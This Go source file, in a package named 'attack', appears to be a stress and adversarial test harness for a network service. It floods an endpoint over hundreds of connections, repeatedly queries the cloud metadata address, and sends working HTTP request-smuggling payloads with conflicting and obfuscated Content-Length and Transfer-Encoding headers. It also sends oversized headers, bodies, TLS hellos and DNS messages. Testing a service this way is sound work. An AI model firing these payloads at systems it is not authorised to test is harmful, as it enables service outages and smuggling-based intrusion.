// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"time"
)

// requests asks the endpoint over many connections at once.
func requests(a *attacker) error {
	request := "POST / HTTP/1.1\r\nHost: " + a.Name + "\r\nContent-Type: application/x-amz-json-1.1\r\nX-Amz-Target: Kinesis_20131202.ListStreams\r\nContent-Length: 2\r\n\r\n{}"
	a.askAll(256, func() (net.Conn, error) { return a.secure() }, request)
	return nil
}

// metadata asks what there is to know of the attacker.
func metadata(a *attacker) error {
	to := netip.AddrFrom4([4]byte{169, 254, 169, 254})
	a.askAll(256, func() (net.Conn, error) { return dial(to, 80) }, "GET /latest/meta-data/ HTTP/1.1\r\nHost: "+to.String()+"\r\n\r\n")
	return nil
}

// askAll sends one request after the other over each of n connections.
func (a *attacker) askAll(n int, open func() (net.Conn, error), request string) {
	a.begun()
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for a.more() {
				c, err := open()
				if err != nil {
					a.count(err)
					continue
				}
				a.askOn(c, request)
				drop(c)
			}
		})
	}
	all.Wait()
}

func (a *attacker) askOn(c net.Conn, request string) {
	r := bufio.NewReader(c)
	for a.more() {
		_ = c.SetDeadline(time.Now().Add(wait))
		_, err := io.WriteString(c, request)
		if err == nil {
			err = discard(r)
		}
		a.count(err)
		if err != nil {
			return
		}
	}
}

// discard reads one answer.
func discard(r *bufio.Reader) error {
	resp, err := http.ReadResponse(r, nil)
	if err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, resp.Body)
	return err
}

// smuggled sends requests whose end is a matter of opinion, with another inside.
func smuggled(a *attacker) error {
	inner := "GET /smuggled HTTP/1.1\r\nHost: " + a.Name + "\r\n\r\n"
	head := "POST / HTTP/1.1\r\nHost: " + a.Name + "\r\n"
	long := fmt.Sprint(5 + len(inner))
	bodies := []string{
		head + "Content-Length: " + long + "\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
		head + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n" + inner,
		head + "Transfer-Encoding: xchunked\r\nContent-Length: " + long + "\r\n\r\n0\r\n\r\n" + inner,
		head + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + inner,
		head + "Content-Length: 0\r\nContent-Length: " + long + "\r\n\r\n" + inner,
		head + "Content-Length: +5\r\n\r\n12345" + inner,
		head + "X: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
		head + "Transfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n" + inner,
	}
	a.begun()
	a.crowd(16, func() bool {
		a.count(a.sendOne(bodies[a.sent.Load()%int64(len(bodies))]))
		return true
	})
	return nil
}

// sendOne sends text over a new connection and reads to the end of what comes back.
func (a *attacker) sendOne(text string) error {
	c, err := a.secure()
	if err != nil {
		return err
	}
	defer drop(c)
	_ = c.SetDeadline(time.Now().Add(wait))
	if _, err := io.WriteString(c, text); err != nil {
		return err
	}
	return discard(bufio.NewReader(c))
}

// oversized sends heads, targets, bodies, TLS hellos and DNS messages beyond what
// anybody takes.
func oversized(a *attacker) error {
	head := "POST / HTTP/1.1\r\nHost: " + a.Name + "\r\n"
	texts := []string{
		head + "X: " + strings.Repeat("x", 1<<20) + "\r\n\r\n",
		head + strings.Repeat("X: y\r\n", 1<<16) + "\r\n",
		"GET /" + strings.Repeat("x", 1<<18) + " HTTP/1.1\r\nHost: " + a.Name + "\r\n\r\n",
		head + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 8388608\r\n\r\n" + strings.Repeat("x", 8<<20),
	}
	hello := append([]byte{22, 3, 1, 0x40, 0, 1, 0xff, 0xff, 0xff, 3, 3}, make([]byte, 16384-6)...)
	query := append([]byte{0xff, 0xff}, make([]byte, 65535)...)
	a.begun()
	a.crowd(16, func() bool {
		n := int(a.sent.Load()) % (len(texts) + 3)
		switch n - len(texts) {
		case 0:
			a.count(sendRaw(a.Endpoint, 443, hello, 8))
		case 1:
			a.count(sendRaw(a.Resolver, 53, query, 1))
		case 2:
			a.count(sendBig(a.Resolver))
		default:
			a.count(a.sendOne(texts[n]))
		}
		return true
	})
	return nil
}

// sendRaw sends b so many times over a new connection, and waits for its end.
func sendRaw(to netip.Addr, port uint16, b []byte, times int) error {
	c, err := dial(to, port)
	if err != nil {
		return err
	}
	defer drop(c)
	_ = c.SetDeadline(time.Now().Add(wait))
	for range times {
		if _, err := c.Write(b); err != nil {
			return err
		}
	}
	_, err = c.Read(make([]byte, 1))
	return err
}
